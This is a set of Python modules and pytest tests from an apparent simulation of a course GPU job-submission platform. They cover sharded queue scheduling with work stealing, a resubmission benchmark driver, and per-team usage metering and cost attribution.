        if not 0.0 < self.buildcache_hit_cost_factor <= 1.0:
            raise ValueError(
                "buildcache_hit_cost_factor must be in (0, 1]")
        if self.usage_window_seconds <= 0:
            raise ValueError("usage_window_seconds must be positive")
        if self.usage_budget_window_seconds <= 0:
            raise ValueError("usage_budget_window_seconds must be positive")
