"""The assembled sharded control plane.

One :class:`ShardedControlPlane` owns everything partition-scoped: the
per-partition broker channels, the N independent scheduler instances, the
steal policy and its counters, and the per-partition observability
surface (``shard``-labelled gauges, ``shard.steal`` events).  It is
deliberately decoupled from :class:`~repro.core.core.RaiSystem` — the
shard bench drives the same plane over a bare broker at kernel scale —
so its constructor takes plain collaborators, not the system object.
"""

from __future__ import annotations

from typing import Callable, List, Optional

from repro.broker.message import Message
from repro.obs.events import EventType
from repro.shard.shardmap import Router, ShardMap
from repro.shard.steal import StealingConsumer


class ShardedControlPlane:
    """N partitions of queue + scheduler + warm pools, with stealing.

    ``scheduler_factory(partition)`` builds one scheduler per partition
    (or returns None); each is attached to that partition's channel, so
    fair-share/deadline policy applies *within* a partition — Ray's
    "no central state on the hot path" shape.  ``workers_fn`` supplies
    the live worker list for occupancy and pool-hit reporting; bare
    harnesses (the bench) leave it None and lose only those gauges.
    """

    def __init__(self, broker, shard_map: ShardMap, *,
                 metrics=None, events=None,
                 steal_threshold: int = 2,
                 scheduler_factory: Optional[Callable[[int], object]] = None,
                 workers_fn: Optional[Callable[[], list]] = None):
        if steal_threshold < 1:
            raise ValueError("steal_threshold must be >= 1")
        self.broker = broker
        self.shard_map = shard_map
        self.router = Router(shard_map)
        self.metrics = metrics
        self.events = events
        self.steal_threshold = steal_threshold
        self.workers_fn = workers_fn

        n = shard_map.n_partitions
        #: Pull-steals by thief partition / losses by victim partition.
        self.steals_in: List[int] = [0] * n
        self.steals_out: List[int] = [0] * n
        #: Messages migrated into each partition by the balancer.
        self.rebalanced_in: List[int] = [0] * n
        self._next_worker_partition = 0

        self.channels = []
        self.schedulers: List[Optional[object]] = []
        for partition in shard_map.partitions():
            channel = broker.channel(shard_map.route(partition))
            scheduler = scheduler_factory(partition) \
                if scheduler_factory is not None else None
            if scheduler is not None:
                channel.scheduler = scheduler
            self.channels.append(channel)
            self.schedulers.append(scheduler)
            if metrics is not None:
                self._register_gauges(partition, channel)

    def _register_gauges(self, partition: int, channel) -> None:
        label = f"p{partition}"
        self.metrics.gauge("shard_queue_depth", shard=label,
                           fn=lambda c=channel: float(c.depth))
        self.metrics.gauge("shard_dispatched", shard=label,
                           fn=lambda c=channel: float(c.total_delivered))
        self.metrics.gauge("shard_routed", shard=label,
                           fn=lambda p=partition:
                           float(self.router.routed[p]))
        self.metrics.gauge("shard_steals", shard=label,
                           fn=lambda p=partition:
                           float(self.steals_in[p] + self.rebalanced_in[p]))
        self.metrics.gauge("shard_pool_hit_rate", shard=label,
                           fn=lambda p=partition: self.pool_hit_rate(p))
        self.metrics.gauge("shard_occupancy", shard=label,
                           fn=lambda p=partition: self.occupancy(p))

    # -- routing ------------------------------------------------------------

    def route(self, key):
        """Route a fair-share ``key``; returns ``(partition, topic)``."""
        return self.router.route(key)

    def consumer(self, partition: int) -> StealingConsumer:
        """A stealing consumer homed on ``partition``'s channel."""
        return StealingConsumer(self, partition)

    def assign_partition(self) -> int:
        """Round-robin home partition for the next executor/worker."""
        partition = self._next_worker_partition % self.shard_map.n_partitions
        self._next_worker_partition += 1
        return partition

    # -- stealing -----------------------------------------------------------

    def try_steal(self, thief: int) -> Optional[Message]:
        """Claim one message from the deepest over-threshold sibling.

        The victim channel's own ``try_deliver`` does the claim, so its
        scheduler still picks which message leaves and the delivery is
        journaled/in-flight-tracked against the victim's route.
        """
        victim, depth = -1, self.steal_threshold - 1
        for partition, channel in enumerate(self.channels):
            if partition != thief and channel.ready_count > depth:
                victim, depth = partition, channel.ready_count
        if victim < 0:
            return None
        message = self.channels[victim].try_deliver()
        if message is None:
            return None
        self.steals_in[thief] += 1
        self.steals_out[victim] += 1
        if self.events is not None:
            body = message.body if isinstance(message.body, dict) else {}
            self.events.emit(EventType.SHARD_STEAL, mode="pull",
                             victim=victim, thief=thief,
                             job_id=body.get("job_id") or body.get("j"),
                             team=body.get("team"),
                             victim_depth=depth)
        return message

    def rebalance(self) -> int:
        """One balancer sweep: migrate queued work to starving partitions.

        A partition is *starving* when its queue is empty but consumers
        are parked on (or subscribed to) it — executors asleep on a
        blocking ``get`` never reach the pull-steal path, so an uneven
        storm that arrives after they park would otherwise idle them.
        Messages move from the deepest non-empty queue via the normal
        put path (waking parked gets), journaled as ``mb_steal`` so
        recovery replays the migration before re-queueing in-flight.

        Unlike the pull-steal path, the balancer ignores the occupancy
        threshold: the threshold is a locality heuristic for executors
        that are *cycling* (home work will arrive; do not chase
        one-message blips), but a starving partition's executor is idle
        — leaving any queued message anywhere else violates work
        conservation.  A deployment with fewer executors than
        partitions relies on exactly this: a job routed to an unmanned
        partition must migrate even when it is the only one queued.
        """
        moved = 0
        for thief, channel in enumerate(self.channels):
            if channel.depth:
                continue
            wanted = len(channel._gets) or \
                (1 if channel.subscriber_count else 0)
            for _ in range(wanted):
                victim = self._deepest_victim(thief)
                if victim < 0:
                    break
                moved += self._migrate(victim, thief)
        return moved

    def _deepest_victim(self, thief: int) -> int:
        victim, depth = -1, 0
        for partition, channel in enumerate(self.channels):
            if partition != thief and channel.depth > depth:
                victim, depth = partition, channel.depth
        return victim

    def _migrate(self, victim: int, thief: int) -> int:
        source, target = self.channels[victim], self.channels[thief]
        if not source.items:
            return 0
        # Steal from the queue tail: the head is what the victim's own
        # scheduler is about to dispatch, the tail is the newest backlog.
        message = source.items.pop()
        journal = self.broker.journal
        if journal is not None:
            journal.broker_steal(source.route, target.route, message.id)
        self.rebalanced_in[thief] += 1
        self.steals_out[victim] += 1
        if self.events is not None:
            body = message.body if isinstance(message.body, dict) else {}
            self.events.emit(EventType.SHARD_STEAL, mode="rebalance",
                             victim=victim, thief=thief,
                             job_id=body.get("job_id") or body.get("j"),
                             team=body.get("team"))
        target._put_fast(message)
        return 1

    # -- scheduler plurality ------------------------------------------------

    def scheduler_for(self, key):
        return self.schedulers[self.shard_map.partition(key)]

    def note_completion(self, key, service_seconds: float) -> None:
        """Feed a completed job's service time to its partition's scheduler."""
        scheduler = self.scheduler_for(key)
        if scheduler is not None:
            scheduler.note_completion(key, service_seconds)

    def max_wait_ewma(self) -> float:
        """Worst per-partition queue-wait EWMA (the autoscaler signal)."""
        return max((s.wait_ewma() for s in self.schedulers
                    if s is not None), default=0.0)

    # -- observability ------------------------------------------------------

    def _partition_workers(self, partition: int) -> list:
        if self.workers_fn is None:
            return []
        return [w for w in self.workers_fn()
                if getattr(w, "partition", None) == partition]

    def occupancy(self, partition: int) -> float:
        """Busy fraction of the partition's live executor slots."""
        workers = self._partition_workers(partition)
        slots = sum(w.slot_count for w in workers)
        if not slots:
            return 0.0
        return sum(w.active_jobs for w in workers) / slots

    def pool_hit_rate(self, partition: int) -> float:
        """Warm-pool hit fraction across the partition's workers."""
        workers = self._partition_workers(partition)
        acquires = hits = 0
        for worker in workers:
            pool = worker.pool
            acquires += pool.hits + pool.misses
            hits += pool.hits
        return hits / acquires if acquires else 0.0

    def queue_depth(self) -> int:
        """Total queued tasks across every partition."""
        return sum(channel.topic.depth for channel in self.channels)

    def wait_stats(self) -> dict:
        return {f"p{p}": s.wait_stats()
                for p, s in enumerate(self.schedulers) if s is not None}

    def stats(self) -> dict:
        partitions = []
        for p, channel in enumerate(self.channels):
            scheduler = self.schedulers[p]
            partitions.append({
                "partition": p,
                "topic": self.shard_map.topic(p),
                "routed": self.router.routed[p],
                "queue_depth": channel.depth,
                "in_flight": len(channel.in_flight),
                "dispatched": channel.total_delivered,
                "steals_in": self.steals_in[p],
                "steals_out": self.steals_out[p],
                "rebalanced_in": self.rebalanced_in[p],
                "workers": len(self._partition_workers(p)),
                "occupancy": self.occupancy(p),
                "pool_hit_rate": self.pool_hit_rate(p),
                "wait_ewma": scheduler.wait_ewma()
                if scheduler is not None else None,
            })
        return {
            "shard_map": self.shard_map.to_dict(),
            "steal_threshold": self.steal_threshold,
            "partitions": partitions,
        }
