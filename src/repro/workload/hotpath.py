"""Submission hot-path driver: N students × M resubmissions, measured.

The paper's load profile is not "many submissions" but "many
*re*-submissions": the same teams pushing near-identical projects dozens
of times against shared workers (§V, Figure 4 — 30,782 submissions in
two weeks from 58 teams).  This driver replays that shape at a chosen
scale and reports exactly the quantities the hot-path optimisations
target:

- p50/p95 simulated submit latency (queue → End), overall and split
  first-submission vs. resubmission (the build cache collapses the
  latter);
- build-artifact cache hits on resubmissions: every resubmission edits
  only a tuning file no build command reads, so its build inputs are
  identical and both build commands should replay from cache;
- upload dedup: wire bytes vs. the full re-upload cost, overall and for
  resubmissions alone;
- docdb access paths: the per-job dedup probe must run on the
  ``submissions.job_id`` index (``explain()`` proves it), and planner
  counters show how many scans the course avoided;
- worker fetch-cache savings and broker encode-once byte accounting.

``benchmarks/bench_hotpath.py`` runs this at several scales and writes
``BENCH_hotpath.json``; the tier-1 smoke test runs one tiny scale.
"""

from __future__ import annotations

import time
from dataclasses import dataclass
from typing import List, Optional

import numpy as np

from repro.core.config import SystemConfig, WorkerConfig
from repro.core.system import RaiSystem

#: Course scaffolding every student's project shares verbatim — the
#: cross-student dedup opportunity (starter code, datasets, build glue).
_SCAFFOLD_BLOB = ("// ECE408 course scaffold\n" * 64).encode()


def _scaffold_files() -> dict:
    files = {
        "CMakeLists.txt": "add_executable(ece408 main.cu)\n" * 40,
        "USAGE": "cmake /src && make && ./ece408 data/model\n",
        "report.pdf": b"%PDF-1.4" + bytes(6144),
    }
    for i in range(4):
        files[f"support/common_{i}.h"] = _SCAFFOLD_BLOB
    return files


def _student_source(student: int) -> str:
    # Unique per student, stable across that student's resubmissions.
    return ("// @rai-sim quality=0.9 impl=im2col\n"
            "#define TILE_WIDTH 16\n"
            + f"// student {student}\n" * 100)


def _tuning_file(student: int, attempt: int) -> str:
    # The file a resubmission edits.  Named to sort last so the edit
    # stays in the archive's tail chunks (fixed-size chunking).
    return (f"// student {student} attempt {attempt}\n"
            f"#define BLOCK_DIM {8 + attempt}\n")


@dataclass
class HotpathScale:
    """One benchmarked operating point."""

    name: str
    n_students: int
    n_resubmissions: int        # per student, beyond the first submit
    n_workers: int = 4


SMOKE_SCALE = HotpathScale("smoke", n_students=3, n_resubmissions=2,
                           n_workers=2)

DEFAULT_SCALES = (
    HotpathScale("small", n_students=4, n_resubmissions=3, n_workers=2),
    HotpathScale("medium", n_students=10, n_resubmissions=6, n_workers=4),
    HotpathScale("large", n_students=20, n_resubmissions=10, n_workers=6),
)


def run_hotpath(scale: HotpathScale, seed: int = 408,
                dedup: bool = True,
                config: Optional[SystemConfig] = None,
                observability: bool = False,
                durability_path: Optional[str] = None) -> dict:
    """Replay the resubmission storm at ``scale``; returns the metrics.

    ``observability=True`` additionally starts the periodic scrape →
    SLO-judge → alert loop (:meth:`RaiSystem.start_observability`), so
    the bench can price the full event-log + alerting pipeline against
    a run with the event log disabled and no scraping.

    ``durability_path`` attaches a write-ahead log + snapshot directory
    (:meth:`RaiSystem.attach_durability`) so the durability bench can
    price journaling against the memory-only baseline.
    """
    wall_start = time.perf_counter()
    config = config or SystemConfig()
    config.dedup_uploads = dedup
    system = RaiSystem.standard(
        num_workers=scale.n_workers, seed=seed, config=config,
        worker_config=WorkerConfig(max_concurrent_jobs=2))
    if observability:
        system.start_observability()
    if durability_path is not None:
        system.attach_durability(durability_path)
    # Range-capable index so time-window queries below run indexed too.
    submissions = system.db.collection("submissions")
    submissions.create_index("finished_at", ordered=True)

    latencies: List[float] = []
    first_latencies: List[float] = []
    resub_latencies: List[float] = []
    first_results = []
    resub_results = []
    gap = system.config.rate_limit_seconds + 1.0

    def student(i: int):
        client = system.new_client(username=f"student{i:03d}")
        files = _scaffold_files()
        files["main.cu"] = _student_source(i)
        files["zz_tuning.cfg"] = _tuning_file(i, 0)
        client.stage_project(files)
        # Stagger arrivals so the fleet sees a ragged burst, not a wall.
        yield system.sim.timeout(0.5 * i)
        for attempt in range(scale.n_resubmissions + 1):
            if attempt:
                client.stage_project(
                    {"zz_tuning.cfg": _tuning_file(i, attempt)})
                yield system.sim.timeout(gap)
            started = system.sim.now
            result = yield from client.submit()
            if result.finished_at is not None:
                latency = result.finished_at - started
                latencies.append(latency)
                (resub_latencies if attempt
                 else first_latencies).append(latency)
            (resub_results if attempt else first_results).append(result)

    system.run_all([student(i) for i in range(scale.n_students)])

    # -- docdb probe proof: the per-job dedup lookup runs indexed --------
    some_job = (first_results[0].job_id if first_results else None)
    probe = submissions.find({"job_id": some_job})
    probe_plan = probe.explain()
    window_plan = submissions.find(
        {"finished_at": {"$gte": 0.0}}).explain()

    def _upload_stats(results):
        wire = sum(r.upload_bytes or 0 for r in results)
        full = sum(r.upload_bytes_full or 0 for r in results)
        return {"submissions": len(results), "wire_bytes": wire,
                "full_bytes": full,
                "reduction": round(full / wire, 2) if wire else None}

    def _latency_stats(values):
        if not values:
            return None
        return {"p50": round(float(np.percentile(values, 50)), 3),
                "p95": round(float(np.percentile(values, 95)), 3),
                "mean": round(float(np.mean(values)), 3)}

    # Build-cache hit rate *on resubmissions*: attribute each
    # buildcache.hit/miss event to its job, then restrict to jobs that
    # were resubmissions (identical build inputs by construction).
    buildcache = None
    if system.build_cache is not None:
        resub_ids = {r.job_id for r in resub_results}
        resub_hits = sum(
            1 for e in system.events.query(type="buildcache.hit")
            if e.fields.get("job_id") in resub_ids)
        resub_misses = sum(
            1 for e in system.events.query(type="buildcache.miss")
            if e.fields.get("job_id") in resub_ids)
        resub_lookups = resub_hits + resub_misses
        buildcache = dict(system.build_cache.stats())
        buildcache["resubmission_lookups"] = resub_lookups
        buildcache["resubmission_hit_rate"] = (
            round(resub_hits / resub_lookups, 4) if resub_lookups else None)

    chunk_stats = system.storage.chunk_store.stats()
    counters = system.monitor.counters
    metrics = {
        "scale": {"name": scale.name, "n_students": scale.n_students,
                  "n_resubmissions": scale.n_resubmissions,
                  "n_workers": scale.n_workers},
        "dedup_enabled": dedup,
        "submissions_completed": len(latencies),
        "latency_s": _latency_stats(latencies),
        "first_latency_s": _latency_stats(first_latencies),
        "resubmission_latency_s": _latency_stats(resub_latencies),
        "buildcache": buildcache,
        "upload": {
            "first": _upload_stats(first_results),
            "resubmissions": _upload_stats(resub_results),
            "dedup_ratio": round(
                counters.get("bytes_uploaded_logical")
                / max(1, counters.get("bytes_uploaded")), 2),
        },
        "storage": {"chunk_store": chunk_stats,
                    "logical_bytes": system.storage.total_bytes},
        "worker_fetch": {
            "bytes": int(counters.get("worker_fetch_bytes")),
            "bytes_saved": int(counters.get("worker_fetch_bytes_saved")),
        },
        "docdb": {
            "job_id_probe": probe_plan,
            "finished_at_window": window_plan,
            "planner": system.db.planner_stats(),
        },
        "broker": {
            "bytes_published": system.broker.total_bytes_published,
            "messages_published":
                int(system.broker.counters.get("messages_published")),
        },
        "obs": {
            "events_emitted": system.events.total_emitted,
            "scrapes": system.scraper.total_scrapes,
            "alerts_fired": system.alerts.total_fired,
        },
        "durability": (system.durability.stats()
                       if system.durability is not None else None),
        "wall_clock_s": round(time.perf_counter() - wall_start, 3),
    }
    return metrics


def grading_digest(seed: int = 408, cache_enabled: bool = True,
                   n_students: int = 2, n_resubmissions: int = 2) -> str:
    """Digest every grading-relevant output of a tiny sequential course.

    One worker, one student at a time, so scheduling cannot reorder
    anything; the digest covers each job's status, concatenated
    stdout/stderr (per stream — replay publishes one chunk per stream
    where a live build streams many, but the bytes must concatenate
    identically), and the content of every file in the downloaded build
    archive (path → sha256; archive bytes themselves embed mtimes, so
    they are hashed per file, not as a blob).

    The golden check: this digest must be byte-identical with the build
    cache on and off — replay never changes what students see or what
    grading records.
    """
    import hashlib

    from repro.vfs import VirtualFileSystem, file_digest, unpack_tree

    config = SystemConfig()
    config.buildcache_enabled = cache_enabled
    system = RaiSystem.standard(num_workers=1, seed=seed, config=config)
    digest = hashlib.sha256()
    gap = system.config.rate_limit_seconds + 1.0

    def course():
        for i in range(n_students):
            client = system.new_client(username=f"golden{i:02d}")
            files = _scaffold_files()
            files["main.cu"] = _student_source(i)
            files["zz_tuning.cfg"] = _tuning_file(i, 0)
            client.stage_project(files)
            for attempt in range(n_resubmissions + 1):
                if attempt:
                    client.stage_project(
                        {"zz_tuning.cfg": _tuning_file(i, attempt)})
                    yield system.sim.timeout(gap)
                result = yield from client.submit()
                digest.update(f"job {i}/{attempt} "
                              f"{result.status.value}\n".encode())
                for stream in ("stdout", "stderr"):
                    text = "".join(chunk for _t, s, chunk in result.log
                                   if s == stream)
                    digest.update(f"{stream} {len(text)}\n".encode())
                    digest.update(text.encode())
                blob = client.download_build(result)
                digest.update(b"build none\n" if blob is None
                              else b"build tree\n")
                if blob is not None:
                    tree = VirtualFileSystem()
                    unpack_tree(blob, tree, "/")
                    for path in tree.iter_files("/"):
                        content = file_digest(tree.read_file(path))
                        digest.update(f"{path}\0{content}\n".encode())

    system.run(course())
    return digest.hexdigest()
