"""Per-tenant usage metering and cost attribution (``repro.obs.usage``).

Covers the meter's accumulation semantics, the allocator's conservation
invariant (attributed + idle == fleet total, exactly), window events,
budget burn, the `rai usage` / `rai cost` verbs, and snapshot round
trips — plus an end-to-end run where real submissions on a provisioned
fleet reconcile against ``Provisioner.total_cost()`` within 1e-6.
"""

import pytest

from repro.cluster import Provisioner
from repro.core.config import SystemConfig
from repro.core.job import JobStatus
from repro.core.system import RaiSystem
from repro.obs.events import EventLog, EventType
from repro.obs.metrics import MetricsRegistry
from repro.obs.usage import (
    UNATTRIBUTED,
    CostAllocator,
    UsageMeter,
)

pytestmark = [pytest.mark.obs, pytest.mark.usage]

FILES = {
    "main.cu": "// @rai-sim quality=0.8 impl=analytic\nint main(){}\n",
    "CMakeLists.txt": "add_executable(ece408 main.cu)\n",
}


class FakeClock:
    def __init__(self):
        self.now = 0.0

    def __call__(self):
        return self.now


class FakeProvider:
    """Linear-accrual fleet: ``rate_per_hour`` from t=0, ``slots`` wide."""

    def __init__(self, rate_per_hour=1.0, slots=1):
        self.rate = rate_per_hour
        self.slots = slots

    def total_cost(self, now):
        return self.rate * now / 3600.0

    def capacity_slot_seconds(self, start, end):
        return max(0.0, end - start) * self.slots


@pytest.fixture
def clock():
    return FakeClock()


@pytest.fixture
def meter(clock):
    return UsageMeter(clock, course="ece408", window_seconds=100.0)


class TestUsageMeter:
    def test_record_accumulates_three_rollups(self, meter, clock):
        clock.now = 10.0
        meter.record("container_seconds", 5.0, tenant="team-a")
        clock.now = 150.0  # next window
        meter.record("container_seconds", 7.0, tenant="team-a")
        meter.record("container_seconds", 2.0, tenant="team-b")
        assert meter.totals["container_seconds"] == pytest.approx(14.0)
        assert meter.tenant_total("team-a", "container_seconds") == \
            pytest.approx(12.0)
        assert meter.window(0)["team-a"]["container_seconds"] == \
            pytest.approx(5.0)
        assert meter.window(1)["team-a"]["container_seconds"] == \
            pytest.approx(7.0)
        assert meter.tenant_count() == 2

    def test_missing_tenant_is_unattributed(self, meter):
        meter.record("broker_messages", 1.0, tenant=None)
        meter.record("broker_messages", 1.0, tenant="")
        assert meter.tenant_total(UNATTRIBUTED, "broker_messages") == 2.0
        assert meter.tenant_count() == 0  # overhead is not a tenant

    def test_disabled_meter_is_inert(self, clock):
        meter = UsageMeter(clock, enabled=False)
        meter.record("container_seconds", 5.0, tenant="team-a")
        meter.record_job("team-a", job_id="j1", container_seconds=5.0)
        assert meter.totals == {}
        assert meter.total_records == 0
        assert meter.jobs == {}

    def test_record_job_fans_out_and_notes_exemplar(self, meter, clock):
        clock.now = 42.0
        meter.record_job("team-a", job_id="job-1", trace_id="tr-1",
                         container_seconds=3.0, gpu_seconds=3.0,
                         slot_seconds=9.0, bytes_downloaded=100,
                         bytes_uploaded=50, build_seconds_saved=1.5)
        res = meter.tenants["team-a"]
        assert res["container_seconds"] == 3.0
        assert res["gpu_seconds"] == 3.0
        assert res["slot_seconds"] == 9.0
        assert res["storage_bytes_downloaded"] == 100
        assert res["storage_bytes_uploaded"] == 50
        assert res["build_seconds_saved"] == 1.5
        exemplar = meter.jobs["job-1"]
        assert exemplar.tenant == "team-a"
        assert exemplar.trace_id == "tr-1"

    def test_exemplars_bounded_keep_most_expensive(self, clock):
        meter = UsageMeter(clock, max_jobs=3)
        for i, seconds in enumerate([5.0, 1.0, 3.0, 4.0, 0.5]):
            meter.record_job("t", job_id=f"job-{i}",
                             container_seconds=seconds)
        assert len(meter.jobs) == 3
        kept = {j.job_id for j in meter.top_jobs(3)}
        assert kept == {"job-0", "job-3", "job-2"}  # 5.0, 4.0, 3.0

    def test_snapshot_round_trip(self, meter, clock):
        clock.now = 10.0
        meter.record("container_seconds", 5.0, tenant="team-a")
        meter.record_job("team-b", job_id="j9", trace_id="tr",
                         container_seconds=2.0)
        snap = meter.to_snapshot()
        restored = UsageMeter(clock)
        restored.install_snapshot(snap)
        assert restored.totals == meter.totals
        assert restored.tenants == meter.tenants
        assert restored.windows == meter.windows
        assert restored.jobs["j9"].trace_id == "tr"
        assert restored.total_records == meter.total_records


class TestCostAllocator:
    def _harness(self, clock, window=100.0, rate=3600.0, slots=1,
                 metrics=None, events=None):
        meter = UsageMeter(clock, window_seconds=window)
        allocator = CostAllocator(meter, clock, window_seconds=window,
                                  budget_window_seconds=1000.0,
                                  metrics=metrics, events=events)
        provider = FakeProvider(rate_per_hour=rate, slots=slots)
        allocator.attach_provisioner(provider)
        return meter, allocator, provider

    def test_window_close_splits_by_usage_share(self, clock):
        # $3600/h == $1/s fleet; window 100s => $100 fleet cost.
        meter, allocator, provider = self._harness(clock)
        meter.record("container_seconds", 60.0, tenant="team-a", at=50.0)
        meter.record("container_seconds", 20.0, tenant="team-b", at=60.0)
        clock.now = 100.0
        allocator.refresh()
        assert allocator.windows_closed == 1
        window = allocator.closed[0]
        # 80 busy slot-seconds over 100 capacity -> 80% utilisation:
        # $80 attributed by share (60:20), $20 idle.
        assert window.utilization == pytest.approx(0.8)
        assert window.tenant_costs["team-a"] == pytest.approx(60.0)
        assert window.tenant_costs["team-b"] == pytest.approx(20.0)
        assert window.idle_cost == pytest.approx(20.0)
        assert window.fleet_cost == pytest.approx(100.0)

    def test_conservation_is_exact_including_partial_window(self, clock):
        meter, allocator, provider = self._harness(clock, slots=2)
        for at, tenant, amount in ((10.0, "team-a", 33.3), (60.0, "team-b", 7.77),
                                   (120.0, "team-a", 11.1), (260.0, "team-c", 0.123)):
            meter.record("container_seconds", amount, tenant=tenant, at=at)
        clock.now = 275.0  # two closed windows + one partial
        allocator.refresh()
        assert allocator.windows_closed == 2
        view = allocator.preview()
        assert view["attributed_total"] + view["idle_cost"] == \
            pytest.approx(provider.total_cost(275.0), abs=1e-9)

    def test_unattributed_usage_lands_in_idle(self, clock):
        meter, allocator, provider = self._harness(clock)
        meter.record("container_seconds", 50.0, tenant="team-a", at=10.0)
        meter.record("container_seconds", 50.0, tenant=None, at=20.0)
        clock.now = 100.0
        allocator.refresh()
        window = allocator.closed[0]
        # 100% utilisation, but only half the busy time is owned:
        # team-a gets $50, the unattributed half stays in idle/overhead.
        assert window.tenant_costs == {"team-a": pytest.approx(50.0)}
        assert window.idle_cost == pytest.approx(50.0)

    def test_usage_beyond_capacity_caps_utilization(self, clock):
        meter, allocator, provider = self._harness(clock, slots=1)
        meter.record("container_seconds", 500.0, tenant="team-a", at=10.0)
        clock.now = 100.0
        allocator.refresh()
        assert allocator.closed[0].utilization == 1.0
        assert allocator.closed[0].tenant_costs["team-a"] == \
            pytest.approx(100.0)
        assert allocator.closed[0].idle_cost == pytest.approx(0.0)

    def test_no_provider_means_no_cost_but_books_balance(self, clock):
        meter = UsageMeter(clock, window_seconds=100.0)
        allocator = CostAllocator(meter, clock, window_seconds=100.0)
        meter.record("container_seconds", 10.0, tenant="team-a", at=5.0)
        clock.now = 250.0
        allocator.refresh()
        view = allocator.preview()
        assert view["fleet_cost"] == 0.0
        assert view["attributed_total"] == 0.0
        assert view["idle_cost"] == 0.0

    def test_window_events_emitted(self, clock):
        events = EventLog(clock=clock)
        meter, allocator, provider = self._harness(clock, events=events)
        meter.record("container_seconds", 10.0, tenant="team-a", at=5.0)
        clock.now = 100.0
        allocator.refresh()
        samples = events.query(type=EventType.USAGE_SAMPLE)
        assert len(samples) == 1
        assert samples[0].fields["team"] == "team-a"
        assert samples[0].fields["cost_usd"] == pytest.approx(10.0)
        windows = events.query(type=EventType.COST_WINDOW)
        assert len(windows) == 1
        assert windows[0].fields["fleet_cost_usd"] == pytest.approx(100.0)
        assert windows[0].fields["attributed_cost_usd"] + \
            windows[0].fields["idle_cost_usd"] == \
            pytest.approx(windows[0].fields["fleet_cost_usd"])

    def test_budget_burn_and_gauges(self, clock):
        metrics = MetricsRegistry()
        meter, allocator, provider = self._harness(clock, metrics=metrics)
        allocator.set_budget("team-a", 50.0)
        assert metrics.value("usage_budget_burn", team="team-a") == 0.0
        meter.record("container_seconds", 100.0, tenant="team-a", at=50.0)
        clock.now = 100.0
        allocator.refresh()
        # $100 attributed against a $50 budget -> 200% burn.
        assert allocator.budget_burn("team-a") == pytest.approx(2.0)
        assert metrics.value("usage_budget_burn",
                             team="team-a") == pytest.approx(2.0)
        assert metrics.value("usage_cost_usd",
                             team="team-a") == pytest.approx(100.0)
        # Raising the budget drops the burn below threshold.
        allocator.set_budget("team-a", 1000.0)
        assert metrics.value("usage_budget_burn",
                             team="team-a") == pytest.approx(0.1)

    def test_budget_period_rolls_over(self, clock):
        meter, allocator, provider = self._harness(clock)
        allocator.set_budget("team-a", 100.0)
        meter.record("container_seconds", 100.0, tenant="team-a", at=50.0)
        clock.now = 500.0
        allocator.refresh()
        assert allocator.budget_burn("team-a") == pytest.approx(1.0)
        # budget_window_seconds=1000: crossing t=1000 resets the period
        # spend, so burn restarts near zero.
        clock.now = 1100.0
        allocator.refresh()
        assert allocator.budget_burn("team-a") == pytest.approx(0.0)

    def test_allocator_snapshot_round_trip_preserves_books(self, clock):
        meter, allocator, provider = self._harness(clock)
        allocator.set_budget("team-a", 75.0)
        meter.record("container_seconds", 80.0, tenant="team-a", at=10.0)
        clock.now = 200.0
        allocator.refresh()
        fleet_before = allocator.fleet_cost
        snap = allocator.to_snapshot()

        meter2 = UsageMeter(clock, window_seconds=100.0)
        meter2.install_snapshot(meter.to_snapshot())
        restored = CostAllocator(meter2, clock, window_seconds=100.0,
                                 budget_window_seconds=1000.0)
        restored.install_snapshot(snap)
        # Books balance without any provider: the settled fleet cost is
        # carried, and attributed + idle still equals it exactly.
        assert restored.fleet_cost == pytest.approx(fleet_before)
        assert restored.attributed_total() + restored.idle_cost == \
            pytest.approx(fleet_before, abs=1e-9)
        assert restored.budgets == {"team-a": 75.0}
        view = restored.preview(250.0)
        assert view["attributed_total"] + view["idle_cost"] == \
            pytest.approx(view["fleet_cost"], abs=1e-9)


def _submit(system, client):
    result = system.run(client.submit())
    assert result.status is JobStatus.SUCCEEDED
    return result


def _provisioned_system(seed=11, teams=("team-a", "team-b")):
    config = SystemConfig(usage_window_seconds=600.0)
    system = RaiSystem(seed=seed, config=config)
    provisioner = Provisioner(system)
    provisioner.launch_many(2, instance_type="p2.xlarge",
                            max_concurrent_jobs=2, boot_delay=1.0)
    system.run(until=5)   # workers join
    clients = []
    for team in teams:
        client = system.new_client(team=team)
        client.stage_project(FILES)
        clients.append(client)
    return system, provisioner, clients


class TestEndToEnd:
    def test_jobs_meter_and_books_reconcile_with_provisioner(self):
        system, provisioner, clients = _provisioned_system()
        for client in clients:
            _submit(system, client)
            _submit(system, client)
        meter = system.usage
        for client in clients:
            res = meter.tenants[client.team]
            assert res["container_seconds"] > 0
            assert res["gpu_seconds"] > 0          # p2.xlarge has a K80
            assert res["slot_seconds"] >= res["container_seconds"]
            assert res["storage_bytes_uploaded"] > 0
            assert res["storage_bytes_downloaded"] > 0
            assert res["storage_bytes_stored"] > 0
            assert res["docdb_ops"] > 0
            assert res["broker_messages"] > 0
        # The acceptance bar: attributed + idle == Provisioner.total_cost
        # within 1e-6, at an arbitrary (partial-window) instant.
        view = system.cost_allocator.preview()
        assert view["attributed_total"] + view["idle_cost"] == \
            pytest.approx(provisioner.total_cost(), abs=1e-6)
        assert view["fleet_cost"] == \
            pytest.approx(provisioner.total_cost(), abs=1e-6)

    def test_job_exemplars_carry_trace_ids(self):
        system, provisioner, clients = _provisioned_system(seed=12)
        result = _submit(system, clients[0])
        jobs = {j.job_id: j for j in system.usage.top_jobs()}
        assert result.job_id in jobs
        exemplar = jobs[result.job_id]
        assert exemplar.tenant == clients[0].team
        assert exemplar.trace_id is not None
        assert system.tracer.store.trace(exemplar.trace_id) is not None

    def test_metering_disabled_records_nothing(self):
        config = SystemConfig(usage_metering_enabled=False)
        system = RaiSystem.standard(num_workers=1, seed=13, config=config)
        client = system.new_client(team="team-x")
        client.stage_project(FILES)
        _submit(system, client)
        assert system.usage.total_records == 0
        assert system.usage.tenants == {}

    def test_warm_pool_hit_bills_acquiring_team(self):
        system, provisioner, clients = _provisioned_system(seed=14,
                                                           teams=("team-a",))
        _submit(system, clients[0])
        _submit(system, clients[0])   # warm hit: consumes parked idle time
        assert system.usage.tenant_total(
            "team-a", "warm_slot_seconds") > 0

    def test_buildcache_replay_credits_saved_seconds(self):
        system, provisioner, clients = _provisioned_system(seed=15,
                                                           teams=("team-a",))
        _submit(system, clients[0])
        first = system.usage.tenant_total("team-a", "container_seconds")
        _submit(system, clients[0])   # resubmission replays the build
        saved = system.usage.tenant_total("team-a", "build_seconds_saved")
        second = system.usage.tenant_total(
            "team-a", "container_seconds") - first
        assert saved > 0
